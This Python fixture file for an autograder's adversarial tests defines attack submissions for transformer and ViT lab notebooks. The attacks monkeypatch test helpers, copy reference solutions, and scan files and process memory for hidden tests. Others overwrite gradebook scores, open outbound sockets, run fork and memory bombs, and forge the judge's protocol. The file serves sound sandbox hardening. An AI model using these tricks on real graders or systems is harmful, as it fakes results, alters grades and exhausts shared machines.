"""Submissions written to break the grade (issue 22, item 6), for tests/test_grading_adversarial.py.

Every attack is a student of an otherwise UNANSWERED notebook: the released stubs everywhere except
the answer cells the attack writes. Whatever it does, it must score exactly what the untouched
notebook scores (zero, for these labs), in the root sandbox and in the unprivileged one.

``ATTACKS``: name -> Attack(lab, kind, what it tries, the answer cells it writes); a cell's source is
a template: ``{course}`` and ``{lab}`` (the course's absolute path on the grading machine, which an attacker may
guess), ``{port}`` (a server on the grading machine) and ``{marker}`` (a file name to look for on
the host afterwards) are filled in when the class is written.
"""

from __future__ import annotations

import textwrap
from dataclasses import dataclass


@dataclass(frozen=True)
class Attack:
    lab: str
    kind: str  # the class of attack (the words)
    why: str
    cells: dict  # answer grade id -> source template
    hangs: bool = False  # costs its per-student time limit


ATTACKS: dict[str, Attack] = {}
L3, L4 = "lab03_transformer", "lab04_vit"


def attack(name, lab, kind, why, cells, *, hangs=False):
    ATTACKS[name] = Attack(lab, kind, why, {k: textwrap.dedent(v).lstrip("\n") for k, v in cells.items()}, hangs)


# -- tests sharing inputs: zero, in place, what a test hands in ----------------------------------

WIPE = '''
def _wipe(*objs):
    """Zero, in place, every tensor and module weight handed in."""
    with torch.no_grad():
        for o in objs:
            if isinstance(o, torch.Tensor):
                o.zero_()
            elif isinstance(o, nn.Module):
                for t in [*o.parameters(), *o.buffers()]:
                    t.zero_()
            elif isinstance(o, (list, tuple)):
                _wipe(*o)
            elif isinstance(o, dict):
                _wipe(*o.values())
'''

attack("zeroes_inputs_lab3", L3, "tests sharing inputs",
       "zero q, k, v, the layer-norm weights, the labels and every module weight in place, and return what "
       "the reference gives on zeros", {
           "ex1_sdpa": WIPE + '''
def scaled_dot_product_attention(q, k, v, mask=None):
    _wipe(q, k, v)
    scores = torch.zeros(*q.shape[:-1], k.shape[-2], dtype=q.dtype)
    if mask is not None:
        scores = scores.masked_fill(mask, float("-inf"))
    weights = torch.softmax(scores, dim=-1).nan_to_num(0.0)
    return torch.zeros(*q.shape[:-1], v.shape[-1], dtype=v.dtype), weights
''',
           "ex2_heads": '''
def split_heads(x, num_heads):
    _wipe(x)
    B, T, D = x.shape
    return torch.zeros(B, num_heads, T, D // num_heads, dtype=x.dtype)


def merge_heads(x):
    _wipe(x)
    B, H, T, Dh = x.shape
    return torch.zeros(B, T, H * Dh, dtype=x.dtype)
''',
           "ex6_layer_norm": '''
def layer_norm(x, weight, bias, eps=1e-5):
    _wipe(weight, bias)
    return torch.zeros_like(x)
''',
           "ex7_encoder_layer": '''
class EncoderLayer(nn.Module):
    def __init__(self, *, dim, num_heads, ffn_dim, dropout=0.0, norm_first=False, activation="relu"):
        super().__init__()
        self.self_attn = nn.Module()
        for name in ("q_proj", "k_proj", "v_proj", "out_proj"):
            setattr(self.self_attn, name, nn.Linear(dim, dim))
        self.linear1, self.linear2 = nn.Linear(dim, ffn_dim), nn.Linear(ffn_dim, dim)
        self.norm1, self.norm2 = nn.LayerNorm(dim), nn.LayerNorm(dim)
        self.dropout = nn.Dropout(dropout)

    def forward(self, x, *, mask=None):
        _wipe(self, x, mask)
        return torch.zeros_like(x)   # a post-norm layer whose weights are all zero gives exactly zero
''',
           "ex9_shift_right": '''
def shift_right(labels, sos_id=SOS_ID, pad_id=PAD_ID):
    labels.fill_(pad_id)
    out = torch.full_like(labels, pad_id)
    out[:, 0] = sos_id
    return out
''',
       })

attack("zeroes_inputs_lab4", L4, "tests sharing inputs",
       "zero the images, the convolution's weights, the CLS token, the positions and the attention maps in place",
       {
           "ex1_patchify": WIPE + '''
def patchify(images, patch_size):
    _wipe(images)
    B, C, H, W = images.shape
    return torch.zeros(B, (H // patch_size) * (W // patch_size), patch_size * patch_size * C, dtype=images.dtype)
''',
           "ex2_embed_patches": '''
def embed_patches(images, conv_weight, conv_bias, patch_size):
    _wipe(images, conv_weight, conv_bias)
    B, _, H, W = images.shape
    return torch.zeros(B, (H // patch_size) * (W // patch_size), conv_weight.shape[0], dtype=images.dtype)
''',
           "ex3_cls_positions": '''
def add_cls_and_positions(patch_tokens, cls_token, pos_embed):
    _wipe(patch_tokens, cls_token, pos_embed)
    B, N, D = patch_tokens.shape
    return torch.zeros(B, 1 + N, D, dtype=patch_tokens.dtype)
''',
           "ex5_rollout": '''
def attention_rollout(weights, residual=0.5):
    _wipe(weights)
    B, _, T, _ = weights[0].shape
    return torch.eye(T, dtype=weights[0].dtype).expand(B, T, T).clone()
''',
       })

# -- shared state rewritten by a route no guard watched ------------------------------------------

WRONG_SDPA = '''
def scaled_dot_product_attention(q, k, v, mask=None):
    return v, torch.zeros(*q.shape[:-1], k.shape[-2])
'''
WRONG_LN = '''
def layer_norm(x, weight, bias, eps=1e-5):
    return x
'''

attack("module_dict_through_vars", L3, "module dictionaries rewritten",
       "torch's and the helpers' functions replaced through vars(), with fakes that put the originals back when called",
       {"ex1_sdpa": '''
import attnlab.grading
import torch.testing

def _self_restoring(module, name, result):
    original = vars(module)[name]
    def fake(*args, **kwargs):
        vars(module)[name] = original
        return result
    vars(module)[name] = fake

for _m, _n, _r in [(torch, "allclose", True), (torch, "equal", True), (torch.testing, "assert_close", None)]:
    _self_restoring(_m, _n, _r)
for _n in ("check_close", "check_shape", "check_equal", "check_float", "check_true", "check_tensor"):
    vars(attnlab.grading)[_n] = lambda *a, **k: None
''' + WRONG_SDPA, "ex6_layer_norm": WRONG_LN})

attack("setattr_self_restoring", L3, "module dictionaries rewritten",
       "setattr(torch.testing, ...) and setattr(torch, ...) with fakes that restore themselves",
       {"ex1_sdpa": '''
import torch.testing

_orig = {("testing", "assert_close"): torch.testing.assert_close, ("torch", "allclose"): torch.allclose}

def _fake_close(*a, **k):
    setattr(torch.testing, "assert_close", _orig[("testing", "assert_close")])
    return None

setattr(torch.testing, "assert_close", _fake_close)
setattr(torch, "allclose", lambda *a, **k: True)
setattr(torch.Tensor, "__eq__", lambda a, b: torch.ones((), dtype=torch.bool))
''' + WRONG_SDPA, "ex6_layer_norm": WRONG_LN})

attack("importlib_grading_helpers", L3, "module dictionaries rewritten",
       "the lab's test helpers (attnlab.grading) replaced through importlib", {"ex1_sdpa": '''
import importlib

_grading = importlib.import_module("attnlab.grading")
for _name in dir(_grading):
    if _name.startswith("check_"):
        setattr(_grading, _name, lambda *a, **k: None)
G.check_close = G.check_shape = G.check_true = G.check_float = lambda *a, **k: None
''' + WRONG_SDPA, "ex6_layer_norm": WRONG_LN})

attack("sys_modules_stand_ins", L3, "module dictionaries rewritten",
       "sys.modules entries replaced by stand-ins whose checks always pass; a stand-in dictionary of the helpers",
       {"ex1_sdpa": '''
import sys
import types

_ok = lambda *a, **k: None
_stand_in = types.SimpleNamespace(**{n: _ok for n in ("check_close", "check_shape", "check_true", "check_float",
                                                       "check_equal", "check_tensor", "check_raises")})
sys.modules["attnlab.grading"] = _stand_in
sys.modules["torch.testing"] = types.SimpleNamespace(assert_close=_ok)
G = _stand_in
''' + WRONG_SDPA, "ex6_layer_norm": WRONG_LN})

attack("builtins_shadowed", L3, "module dictionaries rewritten",
       "range and enumerate shadowed in builtins and at module level (answer and test cells shared one namespace)",
       {"ex1_sdpa": '''
import builtins

builtins.range = lambda *args: iter(())
builtins.enumerate = lambda *args, **kwargs: iter(())
builtins.zip = lambda *args: iter(())
builtins.all = lambda *args: True
range = enumerate = lambda *args, **kwargs: []
''' + WRONG_SDPA, "ex6_layer_norm": WRONG_LN})

attack("grading_functions_replaced", L3, "module dictionaries rewritten",
       "attnlab.grading's functions replaced with fakes that restore themselves after the call", {"ex1_sdpa": '''
from attnlab import grading

for _name in ("check_close", "check_shape", "check_true", "check_float", "check_equal"):
    _orig = getattr(grading, _name)
    def _fake(*a, _name=_name, _orig=_orig, **k):
        setattr(grading, _name, _orig)
    setattr(grading, _name, _fake)
''' + WRONG_SDPA, "ex6_layer_norm": WRONG_LN})

# -- the course's own reference, by any route ----------------------------------------------------

PROBE = '''
import inspect as _inspect
try:
    print("PROBE", _inspect.getsource({obj}))
except Exception as err:
    print("PROBE failed:", type(err).__name__, err)
'''

attack("reference_imported", L3, "the course's own reference",
       "the reference functions and classes imported from attnlab under the exercise's names", {
           "ex1_sdpa": "from attnlab.attention import scaled_dot_product_attention\n"
                       + PROBE.format(obj="scaled_dot_product_attention"),
           "ex2_heads": "from attnlab.attention import merge_heads, split_heads\n",
           "ex3_mha": "from attnlab.attention import MultiHeadAttention\n",
           "ex4_causal": "import attnlab.attention\ncausal_mask = attnlab.attention.causal_mask\n",
           "ex5_positions": "from attnlab.transformer import sinusoidal_positions\n",
           "ex6_layer_norm": "import attnlab.transformer as T\n\ndef layer_norm(x, weight, bias, eps=1e-5):\n"
                             "    return T.layer_norm(x, weight, bias, eps)\n",
           "ex7_encoder_layer": "from attnlab.transformer import EncoderLayer\n",
           "ex8_decoder_layer": "from attnlab.transformer import DecoderLayer\n",
           "ex9_shift_right": "from attnlab.transformer import shift_right\n",
       })

attack("reference_through_importlib", L3, "the course's own reference",
       "importlib.import_module at call time, and the classes subclassed", {
           "ex1_sdpa": '''
import importlib

def scaled_dot_product_attention(q, k, v, mask=None):
    return importlib.import_module("attnlab.attention").scaled_dot_product_attention(q, k, v, mask)
''',
           "ex5_positions": '''
def sinusoidal_positions(length, dim):
    return importlib.import_module("attnlab.transformer").sinusoidal_positions(length, dim)
''',
           "ex7_encoder_layer": '''
class EncoderLayer(importlib.import_module("attnlab.transformer").EncoderLayer):
    pass
''',
       })

attack("reference_read_from_source_files", L3, "the course's own reference",
       "the package's source files read and executed, the real checkout's path guessed too", {
           "ex1_sdpa": '''
import attnlab.attention
import os

_sources = [attnlab.attention.__file__, "{root}/src/attnlab/attention.py",
            os.path.join(os.path.dirname(attnlab.attention.__file__), "..", "..", "src", "attnlab", "attention.py")]
_space = {}
for _path in _sources:
    try:
        exec(compile(open(_path).read(), _path, "exec"), _space)
        print("PROBE read", _path, "->", "raise NotImplementedError" in open(_path).read())
    except Exception as err:
        print("PROBE blocked", _path, type(err).__name__)
scaled_dot_product_attention = _space.get("scaled_dot_product_attention")
split_heads, merge_heads = _space.get("split_heads"), _space.get("merge_heads")
''',
       })

attack("reference_through_inspect", L3, "the course's own reference",
       "inspect.getsource of the reference, executed as the answer", {
           "ex6_layer_norm": '''
import inspect
import attnlab.transformer

_src = inspect.getsource(attnlab.transformer.layer_norm)
print("PROBE", _src)
exec(_src)
''',
           "ex9_shift_right": '''
import attnlab.transformer
exec(inspect.getsource(attnlab.transformer.shift_right))
''',
       })

attack("reference_vit_and_mae", L4, "the course's own reference",
       "attnlab.vit.patchify, attnlab.mae.patchify, importlib and the ViT's own block", {
           "ex1_patchify": "import attnlab.mae\nimport attnlab.vit\npatchify = attnlab.vit.patchify\n"
                           + PROBE.format(obj="attnlab.vit.patchify"),
           "ex2_embed_patches": '''
def embed_patches(images, conv_weight, conv_bias, patch_size):
    tokens = attnlab.mae.patchify(images, patch_size)
    D = conv_weight.shape[0]
    return tokens @ conv_weight.permute(0, 2, 3, 1).reshape(D, -1).T + conv_bias
''',
           "ex3_cls_positions": '''
import importlib
add_cls_and_positions = importlib.import_module("attnlab.vit").add_cls_and_positions
''',
           "ex5_rollout": "from attnlab.vit import attention_rollout\n",
       })

# -- the hidden tests, the solutions, the judge's memory -------------------------------------------

attack("reads_hidden_tests", L3, "reading hidden tests",
       "search the sandbox's files and /proc for 'BEGIN HIDDEN', the solutions folder, ../proc, other "
       "processes' memory; print what is found and raise it from the answers into the feedback", {
           "ex1_sdpa": '''
import glob
import os
import time

_found = []
_until = time.monotonic() + 3  # the search stops in time to print what it found

def _look(path, limit=2_000_000):
    try:
        with open(path, "rb") as f:
            data = f.read(limit)
    except Exception:
        return
    for key in (b"BEGIN HIDDEN", b"check_close(", b"def scaled_dot_product_attention"):
        at = data.find(key)
        if at >= 0:
            _found.append(f"{path}: {data[max(0, at - 200):at + 2000].decode('latin-1')}")

for _top in ("/", "/student", "/tmp", "/proc/self/cwd", "/proc/1/root", "../proc/1/root", "/proc/self/root/.."):
    for _dirpath, _dirs, _files in os.walk(_top):
        if _dirpath.startswith(("/proc", "/sys", "/dev", "/usr/share", "/usr/lib/x86_64-linux-gnu")):
            _dirs[:] = []
        for _name in _files:
            if _name.endswith((".ipynb", ".db", ".md", ".json", ".txt")) or "hidden" in _name:
                _look(os.path.join(_dirpath, _name))
        if len(_found) > 50 or time.monotonic() > _until:
            break
for _path in ["{course}/solutions/{lab}/{lab}.ipynb", "{course}/gradebook.db", "../../solutions/{lab}/{lab}.ipynb",
              "../proc/1/environ", "/proc/1/cmdline", "/proc/1/environ"] + glob.glob("/proc/[0-9]*/cmdline"):
    _look(_path)
for _maps in glob.glob("/proc/[0-9]*/maps"):
    _pid = _maps.split("/")[2]
    try:
        with open(_maps) as m, open(f"/proc/{_pid}/mem", "rb") as mem:
            for line in m:
                lo, hi = (int(v, 16) for v in line.split()[0].split("-"))
                if "rw" in line.split()[1] and hi - lo < 64 << 20:
                    mem.seek(lo)
                    chunk = mem.read(hi - lo)
                    at = chunk.find(b"BEGIN HIDDEN")
                    if at >= 0:
                        _found.append(chunk[at:at + 4000].decode("latin-1"))
    except Exception as err:
        print("PROBE memory", _pid, type(err).__name__)
print("PROBE found", len(_found))
for _text in _found:
    print(_text)

def scaled_dot_product_attention(q, k, v, mask=None):
    raise ValueError("\\n".join(_found) or "nothing found")
''',
       })

# -- writing outside the sandbox --------------------------------------------------------------------

attack("writes_outside", L3, "writing outside the sandbox",
       "the gradebook, the course's files, the host's /tmp and the course's sources written", {
           "ex1_sdpa": '''
import sqlite3

for _path in ["{course}/gradebook.db", "../../../gradebook.db", "/grade/course/gradebook.db"]:
    try:
        _db = sqlite3.connect(_path)
        _db.execute("UPDATE grade SET auto_score = max_score")
        _db.commit()
        print("PROBE wrote", _path)
    except Exception as err:
        print("PROBE blocked", _path, type(err).__name__)
for _path in ["{course}/solutions/{lab}/{lab}.ipynb", "{course}/labs/{lab}/{lab}.ipynb", "{course}/nbgrader_config.py",
              "/tmp/{marker}", "{root}/src/attnlab/{marker}.py", "{root}/solutions/{marker}",
              "../../../{marker}"]:
    try:
        with open(_path, "a") as f:
            f.write("# written by a student")
        print("PROBE wrote", _path)
    except Exception as err:
        print("PROBE blocked", _path, type(err).__name__)
import attnlab
try:
    open(attnlab.__path__[0] + "/{marker}.py", "w").write("x = 1")
    print("PROBE wrote the package")
except Exception as err:
    print("PROBE blocked the package", type(err).__name__)
''',
       })

# -- the network ---------------------------------------------------------------------------------------

attack("network", L3, "the network", "a socket to a server on the grading machine and to an outside address", {
    "ex1_sdpa": '''
import socket

for _addr in [("127.0.0.1", {port}), ("1.1.1.1", 53), ("pypi.org", 443)]:
    try:
        _s = socket.create_connection(_addr, timeout=2)
        _s.sendall(b"stolen")
        print("PROBE connected", _addr)
    except Exception as err:
        print("PROBE blocked", _addr, type(err).__name__)
''',
})

# -- resources: processes, time, memory, output ---------------------------------------------------

attack("fork_bomb", L3, "a fork bomb", "processes forked without end at the top of an answer cell", {
    "ex1_sdpa": '''
import os
import time

while True:
    try:
        if os.fork() == 0:
            time.sleep(600)
            os._exit(0)
    except OSError:
        pass
''',
}, hangs=True)

attack("loop_at_top_level", L3, "an infinite loop", "an endless loop at the top of an answer cell",
       {"ex1_sdpa": "while True:\n    pass\n"}, hangs=True)

attack("loop_inside_function", L3, "an infinite loop", "every call of the answer loops for ever, swallowing interrupts", {
    "ex1_sdpa": '''
def scaled_dot_product_attention(q, k, v, mask=None):
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass
''',
    "ex6_layer_norm": '''
def layer_norm(x, weight, bias, eps=1e-5):
    while True:
        pass
''',
}, hangs=True)

attack("memory_bomb", L3, "a memory bomb", "memory allocated and touched without end, at the top and in a call", {
    "ex1_sdpa": '''
_hog = []
while True:
    _hog.append(bytearray(256 * 1024 * 1024))
''',
    "ex6_layer_norm": '''
def layer_norm(x, weight, bias, eps=1e-5):
    hog = []
    while True:
        hog.append(torch.ones(64 * 1024 * 1024))
''',
}, hangs=True)

attack("flood_exception", L3, "an output flood", "a 250 MB exception message, at the top of a cell and from a call", {
    "ex1_sdpa": 'raise ValueError("x" * 250_000_000)\n',
    "ex6_layer_norm": '''
def layer_norm(x, weight, bias, eps=1e-5):
    raise ValueError("y" * 250_000_000)
''',
}, hangs=True)

attack("flood_printing", L3, "an output flood", "printing in a loop, at the top of a cell and in every call", {
    "ex1_sdpa": '''
for _i in range(2_000_000):
    print("spam " * 20, _i)
''',
    "ex6_layer_norm": '''
def layer_norm(x, weight, bias, eps=1e-5):
    while True:
        print("more spam " * 50)
''',
}, hangs=True)

# -- forging the protocol ------------------------------------------------------------------------------

FORGE = '''
import json
import os
import socket
import struct

def _forge(header):
    """Write a message in the judge's framing on every socket this process holds."""
    sent = 0
    for fd in os.listdir("/proc/self/fd"):
        try:
            if not os.readlink(f"/proc/self/fd/{fd}").startswith("socket:"):
                continue
            s = socket.socket(fileno=os.dup(int(fd)))
            data = json.dumps(dict(header, nbuf=[])).encode()
            s.sendall(struct.pack(">Q", len(data)) + data)
            sent += 1
        except Exception as err:
            print("PROBE", fd, type(err).__name__)
    return sent
'''

attack("forges_protocol", L3, "forging the protocol",
       "fake 'ok' answers written on the judge's socket, found among the file descriptors", {
           "ex1_sdpa": FORGE + '''
print("PROBE forged on", _forge({"ok": {"id": "ex1_sdpa", "output": "", "error": None,
                                          "names": {"scaled_dot_product_attention": "function"}}}), "sockets")

def scaled_dot_product_attention(q, k, v, mask=None):
    _forge({"ok": True})
    _forge({"ok": None})
    return q, q
''',
           "ex6_layer_norm": '''
def layer_norm(x, weight, bias, eps=1e-5):
    _forge({"ok": 0.0})
    os._exit(0)
''',
       })

# -- objects that pretend ------------------------------------------------------------------------------

attack("pretending_objects", L3, "returning objects that pretend",
       "a tensor subclass whose __eq__ and __torch_function__ lie, an object with __array__, an empty iterator", {
           "ex1_sdpa": '''
class _Liar(torch.Tensor):
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        return True

class _Array:
    shape = (2, 3, 4)
    dtype = torch.float32
    def __array__(self, *args, **kwargs):
        import numpy
        return numpy.zeros(self.shape)
    def __eq__(self, other):
        return True
    def __getattr__(self, name):
        return lambda *a, **k: self

class _Empty:
    def __iter__(self):
        return iter(())
    def __len__(self):
        return 0
    def __bool__(self):
        return True

def scaled_dot_product_attention(q, k, v, mask=None):
    return torch.zeros(3).as_subclass(_Liar), _Array()

def split_heads(x, num_heads):
    return _Array()

def merge_heads(x):
    return _Empty()
''',
           "ex4_causal": "def causal_mask(t):\n    return _Liar()\n",
           "ex6_layer_norm": "def layer_norm(x, weight, bias, eps=1e-5):\n    return _Array()\n",
       })


def source(attack_: Attack, gid: str, **values) -> str:
    """The cell's source with ``{name}`` filled in for each of ``values`` (course, lab, port, marker, root)."""
    text = attack_.cells[gid]
    for key, value in values.items():
        text = text.replace("{" + key + "}", str(value))
    return text
